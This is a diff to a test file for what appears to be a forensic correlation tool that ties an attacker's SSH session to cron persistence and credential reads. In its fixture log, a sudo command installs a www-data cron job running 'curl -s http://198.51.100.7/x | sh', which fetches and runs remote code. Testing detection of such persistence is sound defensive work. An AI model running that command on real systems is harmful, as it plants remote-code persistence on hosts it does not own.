@@ -1,6 +1,7 @@
 /** Account, SSH session and cron links on events written for them. */
 import { afterEach, describe, expect, it } from 'vitest';
 import { cronRunsLink } from '../../../src/correlate/links/cron.js';
+import { ROUND_LINKS } from '../../../src/correlate/links/index.js';
 import { localUserLink } from '../../../src/correlate/links/local-user.js';
 import { sshSessionLink } from '../../../src/correlate/links/ssh-session.js';
 import { entityKeys, linkContext } from '../../helpers/link-case.js';
@@ -59,7 +60,7 @@ describe('SSH session link', () => {
     expect(ctx.credentialReads.map((c) => c.file)).toEqual(['/root/.aws/credentials']);
     expect(ctx.fp.hosts.hostOf('10.0.0.4')).toBe('jump');
     expect(ctx.hostWindows.get('jump')).toEqual([[us('2026-05-02T03:00:00Z'), us('2026-05-02T03:30:00Z')]]);
-    expect(ctx.cronWrites).toMatchObject([{ host: 'jump', path: '/etc/cron.d/x', minute: null, user: 'root' }]);
+    expect(ctx.fp.events.has(mini.id('cron-write'))).toBe(true);
   });
 
   it("cron link: a job the attacker wrote runs at its minute, until the file is removed", async () => {
@@ -78,5 +79,27 @@ describe('SSH session link', () => {
     await cronRunsLink.run(ctx);
     const taken = ['before-write', 'run-1', 'other-minute', 'run-2', 'after-removal'].filter((l) => ctx.fp.events.has(mini.id(l)));
     expect(taken).toEqual(['run-1', 'run-2']);
+  });
+});
+
+describe('persistence link', () => {
+  it("a crontab -u USER edit in the attacker's session is USER's table, and its written-out job's runs as USER follow", async () => {
+    mini = await MiniCase.create();
+    const run = (ts: string, user: string, label: string): MiniEvent => ({ ts, class: 'authentication', action: 'cron_session_opened', outcome: 'success', host: 'jump', actor: 'root', target: user, attrs: { label } });
+    await mini.file('auth_log', 'jump/auth.log', [
+      login('2026-05-02T03:00:00Z', 'jump', 'dev', '198.51.100.7', 'sshd[2]'),
+      sudo('2026-05-02T03:02:00Z', 'jump', 'dev', "/bin/sh -c echo '17 * * * * curl -s http://198.51.100.7/x | sh' | crontab -u www-data -", 'crontab-u'),
+      sudo('2026-05-02T03:03:00Z', 'jump', 'dev', '/usr/bin/crontab -e', 'crontab-e'),
+      sudo('2026-05-02T03:04:00Z', 'jump', 'dev', '/usr/bin/crontab -u www-data -l', 'crontab-l'),
+      { ts: '2026-05-02T03:30:00Z', class: 'authentication', action: 'ssh_session_closed', outcome: 'success', host: 'jump', actor: 'dev', session: 'sshd[2]' },
+      run('2026-05-02T04:17:00Z', 'www-data', 'www-run'),
+      run('2026-05-02T04:17:00Z', 'root', 'root-run'),
+      run('2026-05-02T04:18:00Z', 'www-data', 'other-minute'),
+    ]);
+    const ctx = await linkContext(mini);
+    await sshSessionLink.expand(ctx, ctx.fp.add('session', 'sshd[2]', 'jump', null, 'test'));
+    for (const l of ROUND_LINKS.filter((x) => x.name === 'persistence' || x.name === 'cron_runs')) await l.run(ctx);
+    expect(ctx.persistence.map((p) => `${p.kind} ${p.value}`)).toEqual(['cron crontab of www-data', 'cron crontab of root']);
+    expect(['www-run', 'root-run', 'other-minute'].filter((l) => ctx.fp.events.has(mini.id(l)))).toEqual(['www-run']);
   });
 });
